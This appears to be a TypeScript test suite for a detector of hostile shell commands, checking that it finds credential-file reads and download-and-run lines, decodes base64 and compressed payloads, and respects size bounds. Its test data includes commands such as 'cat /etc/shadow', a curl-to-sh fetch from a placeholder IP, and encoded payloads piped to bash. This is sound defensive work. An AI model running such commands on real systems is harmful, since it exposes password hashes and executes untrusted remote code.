import fc from 'fast-check'
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { analyzeCommand } from '../../../shared/command/analyze'
import { attackScripts } from './attack-scripts'
import { ordinaryScripts } from './ordinary-scripts'

const categoriesOf = (hits: readonly { readonly category: string }[]): readonly string[] =>
  hits.map(({ category }) => category).sort()

describe('analyzeCommand on the scripts of attackers', () => {
  it('is tried on at least 60 of them', () => {
    expect(attackScripts.length).toBeGreaterThanOrEqual(60)
  })

  it.each(attackScripts)('%s', (_, text, strong) => {
    expect(categoriesOf(analyzeCommand(text).strong)).toEqual([...strong].sort())
  })
})

describe('analyzeCommand on ordinary administration', () => {
  it('is tried on at least 60 scripts', () => {
    expect(ordinaryScripts.length).toBeGreaterThanOrEqual(60)
  })

  it.each(ordinaryScripts)('%s', (_, text, weak) => {
    const analysis = analyzeCommand(text)
    expect(analysis.strong).toEqual([])
    expect(categoriesOf(analysis.weak)).toEqual([...weak].sort())
  })
})

describe('an attack among ordinary lines', () => {
  const ordinary = ordinaryScripts
    .filter(([, text]) => !text.includes('<<') && !text.includes('<#'))
    .map(([, text]) => text)

  it('is found behind and in front of any ordinary script', () => {
    for (const text of ordinary) {
      expect(categoriesOf(analyzeCommand(`${text}\ncat /etc/shadow`).strong)).toContain('credential-files')
      expect(categoriesOf(analyzeCommand(`cat /etc/shadow\n${text}`).strong)).toContain('credential-files')
    }
  })
})

describe('the answer', () => {
  it('shows the matched command in one line of at most 160 characters', () => {
    const { strong } = analyzeCommand(`cat /etc/shadow |\\\n  base64 ${'-w0 '.repeat(80)}`)
    expect(strong[0]?.excerpt).toMatch(/^cat \/etc\/shadow/)
    expect(strong[0]?.excerpt).not.toContain('\n')
    expect(strong[0]?.excerpt.length).toBeLessThanOrEqual(160)
  })

  it('cuts a long command short with three dots', () => {
    const { strong } = analyzeCommand(`cat /etc/shadow ${'/var/log/some-rather-long-name '.repeat(20)}`)
    expect(strong[0]?.excerpt).toHaveLength(160)
    expect(strong[0]?.excerpt.endsWith('...')).toBe(true)
  })

  it('redacts the secrets in what it shows', () => {
    const { strong } = analyzeCommand("echo 'root:Passw0rd!234' | chpasswd")
    expect(strong[0]?.excerpt).toBe("echo 'root:[redacted]' | chpasswd")
  })

  it('says in which layer something was found', () => {
    const encoded = Buffer.from('cat /etc/shadow').toString('base64')
    const analysis = analyzeCommand(`echo ${encoded} | base64 -d | sh`)
    expect(analysis.strong[0]?.why).toBe('reads password hashes; found in base64')
    expect(analysis).toMatchObject({ layers: 1, decodedBy: ['base64'], truncated: false })
  })

  it('holds one hit of a category, the strong one before the weak one', () => {
    const { strong, weak } = analyzeCommand(
      'curl -fsSL https://get.docker.com | sh\ncurl -s http://198.51.100.7/x | sh\ncurl -s http://198.51.100.8/y | sh',
    )
    expect(strong.map(({ category, excerpt }) => [category, excerpt])).toEqual([
      ['download-and-run', 'curl -s http://198.51.100.7/x | sh'],
    ])
    expect(weak).toEqual([])
  })

  it('finds nothing in an ordinary script', () => {
    expect(analyzeCommand('systemctl restart app')).toMatchObject({
      strong: [],
      weak: [],
      layers: 0,
      decodedBy: [],
      truncated: false,
    })
  })

  it.each([
    ['gzip', gzipSync, 'base64 -d | gunzip | bash'],
    ['zlib', deflateSync, 'base64 -d | zlib-flate -uncompress | bash'],
    ['raw deflate', deflateRawSync, 'base64 -d | inflate | bash'],
  ])('opens payloads compressed with %s', (_, pack, unpack) => {
    const analysis = analyzeCommand(
      `echo ${pack('cat /etc/shadow; echo some more text').toString('base64')} | ${unpack}`,
    )
    expect(categoriesOf(analysis.strong)).toEqual(['credential-files'])
    expect(analysis.decodedBy).toEqual(['base64 and compression'])
  })

  it('leaves a payload closed that is none', () => {
    expect(
      analyzeCommand(
        `echo ${Buffer.from([0x1f, 0x8b, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8]).toString('base64')} | base64 -d | ` +
          'gunzip | bash',
      ),
    ).toMatchObject({ layers: 0, truncated: false })
  })

  it('calls hiding for its own sake weak', () => {
    expect(categoriesOf(analyzeCommand('c\\u\\r\\l -s localhost/health').weak)).toEqual(['obfuscation'])
    expect(
      categoriesOf(analyzeCommand(`powershell -enc ${Buffer.from('Get-Date', 'utf16le').toString('base64')}`).weak),
    ).toEqual(['obfuscation'])
    const twice = Buffer.from('echo 5265737461727420617070 | xxd -r -p').toString('base64')
    expect(analyzeCommand(`echo ${twice} | base64 -d`).weak).toMatchObject([
      { category: 'obfuscation', why: 'hidden by base64, then hexadecimal digits' },
    ])
  })
})

describe('long texts', () => {
  const filler = '# a comment of the usual length that says nothing at all\n'

  it('are looked at up to the bound', () => {
    const analysis = analyzeCommand(`${filler.repeat(500)}cat /etc/shadow\n${filler.repeat(500)}`)
    expect(analysis.truncated).toBe(false)
    expect(categoriesOf(analysis.strong)).toEqual(['credential-files'])
  })

  it.each([
    ['at the beginning', 0],
    ['at the end', 2000],
  ])('are looked at %s beyond it, and marked', (_, before) => {
    const text = `${filler.repeat(before)}cat /etc/shadow\n${filler.repeat(2000 - before)}`
    expect(text.length).toBeGreaterThan(65_536)
    expect(analyzeCommand(text).truncated).toBe(true)
    expect(categoriesOf(analyzeCommand(text).strong)).toEqual(['credential-files'])
  })

  it('of very many commands are cut in the middle, and marked', () => {
    const text = `cat /etc/shadow\n${'a;'.repeat(8_000)}`
    expect(text.length).toBeLessThan(65_536)
    expect(analyzeCommand(text).truncated).toBe(true)
    expect(categoriesOf(analyzeCommand(text).strong)).toEqual(['credential-files'])
  })

  it('may not use up what is reserved for scripts inside scripts', () => {
    const expanded = `a=${'x'.repeat(8_000)}\n${'b=$a$a\n'.repeat(20)}`
    const nested = Array.from(
      { length: 3 },
      (_, index) => `bash -c "bash -c 'echo ${index} ${'y'.repeat(9_000)}'"`,
    ).join('\n')
    const analysis = analyzeCommand(`${expanded}${nested}\nbash -c 'cat /etc/shadow'`)
    expect(categoriesOf(analysis.strong)).toEqual(['credential-files'])
  })

  it('hidden in more texts than are looked at are marked', () => {
    const blobs = Array.from({ length: 400 }, (_, index) =>
      Buffer.from(`echo number ${index} of many`).toString('base64'),
    )
    expect(analyzeCommand(`${blobs.join('\n')}\nbase64 -d`).truncated).toBe(true)
  })

  it('inside other texts, too many of them, are marked', () => {
    let text = 'z'.repeat(20_000)
    for (const depth of [0, 1, 2, 3, 4]) text = `eval 'echo ${depth};' ${JSON.stringify(text)}`
    const wide = Array.from({ length: 3 }, (_, index) => `x=${index}; ${text.replaceAll('z', String(index))}`).join(
      '\n',
    )
    expect(analyzeCommand(wide).truncated).toBe(true)
  })
})

/** Pieces of real syntax, so that the parsers are reached. */
const pieces = fc.constantFrom(
  ...attackScripts.map(([, text]) => text),
  '$(',
  '`',
  '"',
  "'",
  '(',
  ')',
  '{',
  '}',
  '<<EOF\n',
  'EOF\n',
  '|',
  '&&',
  ';',
  '\n',
  '\\',
  '^',
  '%a%',
  '$a',
  'a=',
  '@"\n',
  '"@',
  '<#',
  '#>',
  '${',
  '[[ ',
  ' ]]',
  '-f',
  '-join',
  '\0',
  '\uD800',
  '\u202E',
)
const scripts = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string({ unit: fc.constantFrom(...'<#>@$(){}[]|&;"\'`\\^%=-+, \n'.split(''), 'a', 'if', 'do'), maxLength: 60 }),
  fc.array(fc.oneof(pieces, fc.string({ maxLength: 8 })), { maxLength: 12 }).map((parts) => parts.join('')),
)

describe('any text', () => {
  it.each(['Get-Item <#>', '& "C:\\x.exe" <#>a', 'Get-Item <##>', '<#>#> Get-Item'])(
    'gets an answer where a comment in PowerShell overlaps its own end: %s',
    (text) => {
      expect(analyzeCommand(text).strong).toEqual([])
    },
  )

  it('gets an answer, the same every time, within its bounds', () => {
    fc.assert(
      fc.property(scripts, (text) => {
        const analysis = analyzeCommand(text)
        expect(analyzeCommand(text)).toEqual(analysis)
        const hits = [...analysis.strong, ...analysis.weak]
        expect(new Set(hits.map(({ category }) => category)).size).toBe(hits.length)
        for (const { excerpt, why } of hits) {
          expect(excerpt.length).toBeLessThanOrEqual(160)
          expect(why).not.toBe('')
        }
      }),
      { numRuns: 1_000 },
    )
  })
})
